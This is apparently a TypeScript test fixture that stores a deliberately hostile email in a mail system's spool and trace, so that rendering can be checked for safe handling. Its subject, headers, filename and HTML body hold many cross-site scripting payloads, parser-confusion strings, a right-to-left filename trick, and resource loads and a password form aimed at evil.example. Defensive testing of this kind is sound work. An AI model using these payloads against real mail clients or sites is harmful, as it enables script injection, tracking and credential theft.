/** A mail whose every text tries to become something else than text, in the trace and in the spool. */
import { createHash } from 'node:crypto';
import type { Records } from '../../src/records/open-records.ts';
import { traceRecords } from '../../src/records/trace.ts';
import type { LocalSpool } from '../../src/spool/local-spool.ts';
import { judgedMail, type MailTraits, sidecar } from '../records/mails.ts';

export const hostile = {
  subject: '"><script>window.owned=1</script><img src=x onerror=window.owned=1>\u202egnp.exe',
  fileName: '"><svg onload=window.owned=1>.pdf',
  text: '</div><script>window.owned=1</script> javascript:alert(1) ${7*7} {{7*7}}',
} as const;

/** Everything that HTML can try at once. */
export const hostileHtml = [
  '<script>window.owned=1;parent.owned=1</script><img src="http://evil.example/pixel.png" onerror="parent.owned=1" alt="a &quot;pixel&quot;">',
  '<link rel=stylesheet href="http://evil.example/a.css"><link rel=preconnect href="http://evil.example"><link rel=dns-prefetch href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=http://evil.example/refresh"><base href="http://evil.example/">',
  '<style>@import "http://evil.example/b.css";body{background:url(http://evil.example/c.png)}</style>',
  '<p style="background:url(http://evil.example/d.png);color:#00f" onclick="parent.owned=1">Seen text</p>',
  '<p style="background:u\\72l(http://evil.example/e.png)">escaped style</p><table background="http://evil.example/f.png"><tr><td>cell</td></tr></table>',
  '<iframe src="http://evil.example/g"></iframe><object data="http://evil.example/h"></object><embed src="http://evil.example/i">',
  '<form action="http://evil.example/j"><input name=password><button>Log in</button></form>',
  '<a href="http://evil.example/k" target=_top>our portal</a><a href="javascript:parent.owned=1">run</a>',
  '<svg onload="parent.owned=1"><style><img src=x onerror=parent.owned=1></style></svg><math><mtext><script>parent.owned=1</script></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=parent.owned=1>"></noscript><video src="http://evil.example/l" poster="http://evil.example/m"></video>',
  '<p id="x" class="y" name="z">plain</p><!--<img src=x onerror=parent.owned=1>--><xmp><img src=x onerror=parent.owned=1></xmp><plaintext><b>end',
].join('\r\n');

export async function storeHostileMail(
  { records, spool }: { readonly records: Records; readonly spool: LocalSpool },
  receivedAt: number,
): Promise<string> {
  const mailId = '0hostile00000000000001';
  const messageId = `${mailId}-0`;
  const traits = {
    messageId,
    receivedAt,
    subject: hostile.subject,
    from: 'mallory@evil.example',
    mailFrom: '<script>window.owned=1</script>@evil.example',
    outcome: 'escalated' as const,
    rfcMessageId: '<"><script>window.owned=1</script>@evil.example>',
  };
  const raw = Buffer.from(
    [
      'From: "<script>window.owned=1</script>" <mallory@evil.example>',
      'To: support@postern.test',
      `Subject: =?utf-8?B?${Buffer.from(hostile.subject).toString('base64')}?=`,
      'X-Trick: <script>window.owned=1</script>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: text/plain; charset=utf-8',
      '',
      hostile.text,
      '--b',
      'Content-Type: text/html',
      '',
      hostileHtml,
      '--b',
      'Content-Type: application/pdf',
      `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(hostile.fileName)}`,
      '',
      'x',
      '--b--',
      '',
    ].join('\r\n'),
  );
  await storeRawMail({ records, spool }, traits, raw);
  return messageId;
}

/** Puts a mail into the spool and the trace, as a listener and a worker would have. */
export async function storeRawMail(
  { records, spool }: { readonly records: Records; readonly spool: LocalSpool },
  traits: MailTraits & { readonly messageId: string; readonly receivedAt: number },
  raw: Buffer,
): Promise<void> {
  const arrival = await spool.begin(traits.messageId.replace(/-\d+$/, ''));
  await arrival.write(raw);
  await arrival.complete();
  const sha256 = createHash('sha256').update(raw).digest('hex');
  const { spoolKey } = await arrival.commit({ ...sidecar(traits), sha256, size: raw.length });
  const mail = { ...judgedMail(traits), spoolKey };
  await traceRecords(records).record([{ mail, sidecar: sidecar(traits) }], traits.receivedAt);
}
